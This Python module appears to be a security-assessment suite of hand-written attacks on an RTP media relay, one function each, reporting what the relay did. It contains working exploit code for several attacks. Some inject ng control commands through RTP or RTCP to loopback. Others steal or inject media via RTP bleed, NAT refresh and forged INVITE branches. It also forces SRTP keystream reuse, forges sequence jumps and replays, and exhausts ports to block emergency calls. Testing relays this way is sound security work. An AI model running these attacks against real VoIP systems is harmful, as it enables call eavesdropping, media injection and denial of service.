# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks by hand, one function each. It takes a rig and returns what the relay did. The docstring is the text in the table."""
import time

import srtpkey
import sdp
import srtp
from peer_rig import GATEWAY, Phone, count

SUITE = "AES_CM_128_HMAC_SHA1_80"
OTHER = "AES_CM_128_HMAC_SHA1_32"
COMMAND = b" d7:command4:list5:limiti100ee"


def pair(rig, near=None, far=None, **far_keys):
    return Phone(rig, "east", 5000, suite=near), Phone(rig, "west", 6000, suite=far, **far_keys)


def to_ng(rig, where, how="offer"):
    """One party names ng as its media address, the other one sends a command in RTP."""
    a, b = pair(rig)
    rig.call(*pair_more(rig), name="victim")
    if how == "answer":
        a, b = b, a  # b is the accomplice
        rig.offer("evil", b.sdp())
        rig.told(b, rig.answer("evil", a.sdp(where=where)))
    else:
        if how == "again":
            rig.call(a, b, name="evil")
        rig.told(b, rig.offer("evil", a.sdp(where=where), **({"to_tag": "b"} if how == "again" else {})))
        rig.answer("evil", b.sdp())
    rig.left()
    # A cookie ends at the first space, so the twelve bytes of the RTP header must have none.
    packet = bytes([0x80, 0]) + b"abcdefghij"
    for _ in range(5):
        b.sock.sendto(packet + COMMAND, b.to)
        time.sleep(0.02)
    replies = [d for d in b.got() if b"victim" in d]
    reached = [p for p in rig.left() if p.dport == rig.relay.ng_port]
    if replies:
        return f"ng obeyed: `list` came back to the attacker with another's Call-ID ({len(reached)} commands reached ng)"
    return f"taken; {len(reached)} of 5 packets left for that address, no reply came back" if reached else "taken, but nothing left for that address"


def pair_more(rig):
    return Phone(rig, "east", 7000), Phone(rig, "west", 7200)


def ng_by_loopback(rig):
    """1: SDP names 127.0.0.1 and the ng port; an accomplice sends `list` in RTP"""
    return to_ng(rig, ("127.0.0.1", 22222))


def ng_by_own_address(rig):
    """1: the same with the media address and the ng port"""
    return to_ng(rig, (GATEWAY, 22222))


def ng_by_answer(rig):
    """1: the same in the answer, with 127.0.0.1"""
    return to_ng(rig, ("127.0.0.1", 22222), "answer")


def ng_by_reinvite(rig):
    """1: the same in a re-INVITE, with 127.0.0.1"""
    return to_ng(rig, ("127.0.0.1", 22222), "again")


def ng_by_another_loopback(rig):
    """1: the same in the offer, with 127.0.0.2"""
    return to_ng(rig, ("127.0.0.2", 22222))


def ng_by_rtcp(rig):
    """1: the same by `a=rtcp:22222 IN IP4 127.0.0.1`"""
    a, b = pair(rig)
    there = rig.offer("evil", a.sdp("a=rtcp:22222 IN IP4 127.0.0.1\r\n"))
    line = sdp.parse(there)[0]
    rig.answer("evil", b.sdp())
    rig.left()
    for _ in range(5):
        b.sock.sendto(b"\x80\xcc\0\x08abcdefgh" + COMMAND, (line.address, line.rtcp))
        time.sleep(0.02)
    b.got()
    reached = [p for p in rig.left() if p.dport == rig.relay.ng_port]
    return f"taken; {len(reached)} of 5 packets reached ng" if reached else "taken, but nothing reached ng"


def bleed(rig):
    """3: plain call, silent callee; after 3.5 s a stranger sends one packet, then the callee sends from its signalled address"""
    a, b = pair(rig)
    rig.call(a, b)
    time.sleep(3.5)
    stranger = Phone(rig, "stranger", 40000)
    stranger.send(b"stranger", to=b.to)
    injected = count(a.got(), b"stranger")
    for _ in range(10):
        b.send(b"callee")
        a.send(b"caller")
        time.sleep(0.02)
    got, stolen, heard = count(b.got(), b"caller"), count(stranger.got(0), b"caller"), count(a.got(), b"callee")
    return f"injected packets: {injected} of 1; the callee got {got} of 10, the stranger {stolen}; {heard} of the callee's 10 were relayed"


def refresh(rig):
    """4: callee behind NAT, confirmed; byte-identical re-INVITE; a stranger sends 10 packets before the callee's next"""
    a, b = Phone(rig, "east", 5000), Phone(rig, "west", 6000, source=6500)
    name, _, _ = rig.call(a, b)
    time.sleep(3.5)
    rig.must_speak(a, b)
    rig.offer(name, a.sdp(), to_tag="b")
    rig.answer(name, b.sdp())
    stranger = Phone(rig, "stranger", 40000)
    for _ in range(10):
        stranger.send(b"stranger", to=b.to)
        time.sleep(0.02)
    for _ in range(10):
        a.send(b"caller")
        time.sleep(0.02)
    stolen, injected = count(stranger.got(), b"caller"), count(a.got(), b"stranger")
    for _ in range(10):
        b.send(b"callee")
        a.send(b"caller")
        time.sleep(0.02)
    return f"the stranger got {stolen} of 10 packets and injected {injected} of 10; afterwards {count(a.got(), b'callee')} of the callee's 10 were relayed"


def circle(rig):
    """5: both parties of a plain call name each other's relay port by re-INVITE; one packet, counted for 0.3 s"""
    other = pair_more(rig)
    rig.call(*other)
    rig.must_speak(*other)
    a, b = pair(rig)
    name, _, _ = rig.call(a, b)
    rig.offer(name, a.sdp(where=b.to), to_tag="b")
    rig.answer(name, b.sdp(where=a.to))
    rig.left()
    a.send(b"round")
    time.sleep(0.3)
    n = sum(b"round" in p.data for p in rig.left())
    rig.client.call("delete", call_id=name, delete_delay=0)
    return f"taken; the packet left {n} times" if n else "taken, but nothing was relayed"


def in_avp(text):
    """Opportunistic SRTP: crypto lines in RTP/AVP (RFC 8643)."""
    return text.replace("RTP/SAVP", "RTP/AVP")


def reuse(rig, steps, osrtp=False):
    """Runs steps(rig, name, a, b, spoken, learn). spoken(word, first) sends three packets with
    sequence numbers from first, learn(SDP) stores the relay's keys. Returns the number of
    indexes with two ciphertexts under one key. Each packet is opened with the key, whatever its
    origin. Sequence numbers have no gap, because a gap may be a reason to drop packets."""
    a, b = pair(rig, far=SUITE)
    if osrtp:
        name, there = "osrtp", rig.offer("osrtp", a.sdp(), OSRTP=["offer"], SDES=["pad"])
        rig.told(b, there)
        rig.told(a, rig.answer(name, in_avp(b.sdp())))
    else:
        name, there, _ = rig.call(a, b)
    rig.tags = {s: t for t, s, _ in sdp.parse(there)[0].keys}
    keys, used, again, opened = {}, {}, set(), {}

    def learn(text):
        for _, suite, material in sdp.parse(text)[0].keys:
            if suite in (SUITE, OTHER):
                keys.setdefault((suite, material), srtpkey.Key(suite, material))

    def spoken(word, first=501):
        for seq in range(first, first + 3):
            a.send(word * 10, seq=seq)
            time.sleep(0.005)
        time.sleep(0.2)  # before the next change
    learn(there)
    rig.left()
    steps(rig, name, a, b, spoken, learn)
    time.sleep(0.2)
    for p in rig.left():
        for material, key in keys.items():
            clear = p.dst == b.ip and key.open(p.data, 0)
            if not clear:
                continue
            opened[material] = opened.get(material, 0) + 1
            index = (material, p.data[:12])
            if used.setdefault(index, p.data) != p.data:
                again.add(index)
    return (f"{len(again)} of 3 indexes were sent with a second plaintext "
            f"({sum(opened.values())} packets left under {len(opened)} key{'s' * (len(opened) != 1)})")


def three_answers(rig):
    """6: one offer, three answers (phone 1 with key 1, phone 2 with key 2, phone 1 with key 1); after the third the plain side repeats three sequence numbers, then sends three new ones"""
    def steps(rig, name, a, b, spoken, learn):
        spoken(b"one")
        first = (b.tag, b.suite, b.key)
        b.tag, b.suite, b.key = rig.tags[OTHER], OTHER, b"2" * 30
        rig.told(a, rig.answer(name, b.sdp(), to_tag="c"))
        spoken(b"two", 504)
        b.tag, b.suite, b.key = first
        rig.told(a, rig.answer(name, b.sdp()))
        spoken(b"six")
        spoken(b"new", 507)
    return reuse(rig, steps)


def repeat(rig):
    """6: the plain side repeats three sequence numbers with other payloads"""
    def steps(rig, name, a, b, spoken, learn):
        spoken(b"one")
        spoken(b"two")
    return reuse(rig, steps)


def there_and_back(rig):
    """6: one OSRTP offer, answered in SRTP by phone 1, in RTP by phone 2, in SRTP by phone 1; then the plain side repeats three sequence numbers, then sends three new ones"""
    def steps(rig, name, a, b, spoken, learn):
        spoken(b"one")
        secure, b.suite = b.suite, None
        rig.told(a, rig.answer(name, b.sdp(), to_tag="c"))
        spoken(b"two", 504)
        b.suite = secure
        rig.told(a, rig.answer(name, in_avp(b.sdp())))
        spoken(b"six")
        spoken(b"new", 507)
    return reuse(rig, steps, osrtp=True)


def reinvited(rig):
    """6: SRTP to plain RTP to SRTP by re-INVITE; then the plain side repeats three sequence numbers, then sends three new ones"""
    def steps(rig, name, a, b, spoken, learn):
        spoken(b"one")
        secure, b.suite = b.suite, None
        rig.offer(name, a.sdp(), to_tag="b")
        rig.told(a, rig.answer(name, b.sdp()))
        spoken(b"clear", 504)
        b.suite = secure
        there = rig.offer(name, a.sdp(), to_tag="b", secure=True)
        rig.told(b, there)
        learn(there)
        rig.told(a, rig.answer(name, b.sdp()))
        spoken(b"two")
        spoken(b"new", 507)
    return reuse(rig, steps)


def jump(rig, packets=1):
    """8: one packet forged with the plain terminal's address and a sequence number 32,000 ahead"""
    a, b = pair(rig, far=SUITE)
    rig.call(a, b)
    for _ in range(20):
        a.send(b"before")
        time.sleep(0.005)
    receiver = srtp.Session(SUITE, b.rx, srtp.INBOUND)
    before = sum(receiver.unprotect(p) is not None for p in b.got())
    if before < 15:
        raise RuntimeError(f"the control call has no media: {before}")
    for i in range(packets):
        rig.attackers.martian("stranger", a.ip, a.port, a.to, a.packet(b"forged", seq=a.seq + 32000 + i & 0xffff))
    time.sleep(0.1)
    for _ in range(200):
        a.send(b"after")
        time.sleep(0.002)
    clear = [receiver.unprotect(p) or b"" for p in b.got()]
    return f"of the next 200 packets {sum(b'after' in p for p in clear)} opened at the receiver, {len(clear)} were relayed"


def jumps(rig):
    """8: the same with three forged packets in a row"""
    return jump(rig, 3)


def replay(rig):
    """8: ten SRTP packets of a terminal; then 20 of its packets have other SSRCs; then somebody repeats the ten"""
    a, b = pair(rig, far=SUITE)
    rig.call(a, b)
    rig.must_speak(a, b)
    first = [b.packet(b"before") for _ in range(10)]
    for p in first:
        b.sock.sendto(p, b.to)
    before = count(a.got(), b"before")
    for n in range(20):
        b.ssrc = 0x1000 + n
        b.send(b"other")
        time.sleep(0.005)
    others = count(a.got(), b"other")
    for p in first:
        b.sock.sendto(p, b.to)
    return f"{before} of 10 were relayed, then {others} of 20; of the 10 repeated ones {count(a.got(), b'before')} were relayed again"


def many_lines(rig):
    """8: offers with 64 m-lines until the ports are used up (10,000); then an ordinary and an emergency call"""
    lines = [("10.200.1.2", 30000 + 2 * i, []) for i in range(64)]
    taken = refused = 0
    while taken + refused < 120:  # 64 lines while they are accepted, then few, to use up the rest
        body = sdp.body(lines[:(64, 8, 1)[min(refused, 2)]], "10.200.1.2")
        reply = rig.client.call("offer", tries=15, call_id=f"many-{taken}-{refused}", from_tag="a", sdp=body,
                                transport_protocol="RTP/AVP", ICE="remove")
        taken, refused = taken + (reply.get("result") == "ok"), refused + (reply.get("result") != "ok")
        if refused == 12:  # rtpengine tries ports at random, so one refusal does not say that all are used
            break
    a, b = pair(rig)
    out = []
    for kind, flags in (("ordinary", []), ("emergency", ["emergency"])):
        reply = rig.client.call("offer", tries=15, call_id=kind, from_tag="a", sdp=a.sdp(), transport_protocol="RTP/AVP",
                                ICE="remove", flags=flags)
        out.append(f"{kind} call: {reply.get('result')}" + (f" ({reply['error-reason']})" if "error-reason" in reply else ""))
    return f"{taken} of {taken + refused} offers taken; {', '.join(out)}"


def redirect(rig):
    """8: a losing branch sends an INVITE with Call-ID and From tag of the established call; an accomplice answers"""
    a, b = pair(rig)
    name, _, _ = rig.call(a, b, via_branch="one")
    rig.must_speak(a, b)
    thief = Phone(rig, "stranger", 41000)
    try:
        rig.offer(name, thief.sdp(), via_branch="two")
        rig.answer(name, Phone(rig, "stranger", 42000).sdp(), to_tag="c", via_branch="two")
    except Exception as why:  # noqa: BLE001
        if not rig.runs():
            raise
        refused = f"refused: {why}; "
    else:
        refused = ""
    for _ in range(10):
        b.send(b"callee")
        time.sleep(0.02)
    return f"{refused}the caller got {count(a.got(), b'callee')} of 10 packets, the thief {count(thief.got(), b'callee')}"


def unknown_branch(rig):
    """8: `delete` with a via-branch that the call never had"""
    a, b = pair(rig)
    name, _, _ = rig.call(a, b, via_branch="one")
    rig.must_speak(a, b)
    reply = rig.client.call("delete", call_id=name, from_tag="a", via_branch="nobody's", delete_delay=0)
    there = rig.client.call("query", call_id=name)["result"] == "ok"
    media = there and rig.speak(a, b)
    return f"{reply['result']}{': ' + reply['warning'] if 'warning' in reply else ''}; the call {'continues' if media else 'is over'}"


def hygiene(rig):
    """9: bare CR, NUL and ESC in SDP"""
    out = []
    for name, byte in (("CR", "\r"), ("NUL", "\0"), ("ESC", "\x1b")):
        a = Phone(rig, "east", 5000 + 2 * len(out))
        try:
            text = rig.offer("hygiene" + name, a.sdp(f"a=x:one{byte}two\r\n"))
            out.append(f"{name} {'passes' if 'one' + byte + 'two' in text else 'is removed'}")
        except Exception as why:  # noqa: BLE001
            if not rig.runs():
                raise
            out.append(f"{name} refused ({why})")
    return ", ".join(out)


def key_lines(rig):
    """9: `k=` and `a=key-mgmt` lines"""
    out = []
    for name, line in (("k=", "k=clear:secret"), ("a=key-mgmt", "a=key-mgmt:mikey AQAFgM0XflABAAAAAAAAAAAAAAsAyO")):
        a = Phone(rig, "east", 5000 + 2 * len(out))
        try:
            text = rig.offer("keys" + name, a.sdp(line + "\r\n"))
            out.append(f"{name} {'passes' if line in text else 'is removed'}")
        except Exception as why:  # noqa: BLE001
            if not rig.runs():
                raise
            out.append(f"{name} refused ({why})")
    return ", ".join(out)


def reflected(rig):
    """9: the callee answers with the relay's own key and sends the relay's packets back"""
    a, b = pair(rig, far=SUITE)
    name = "reflected"
    there = rig.offer(name, a.sdp(), secure=True)
    rig.told(b, there)
    b.key = b.rx
    rig.told(a, rig.answer(name, b.sdp()))
    for _ in range(10):
        a.send(b"mine")
        time.sleep(0.01)
    for p in b.got():
        b.sock.sendto(p, b.to)
    return f"accepted; the caller received {count(a.got(), b'mine')} of its own 10 packets"


ALL = [ng_by_loopback, ng_by_own_address, ng_by_answer, ng_by_reinvite, ng_by_another_loopback, ng_by_rtcp, bleed, refresh, circle, three_answers, repeat, there_and_back, reinvited, jump, jumps, replay, many_lines,
       redirect, unknown_branch, hygiene, key_lines, reflected]
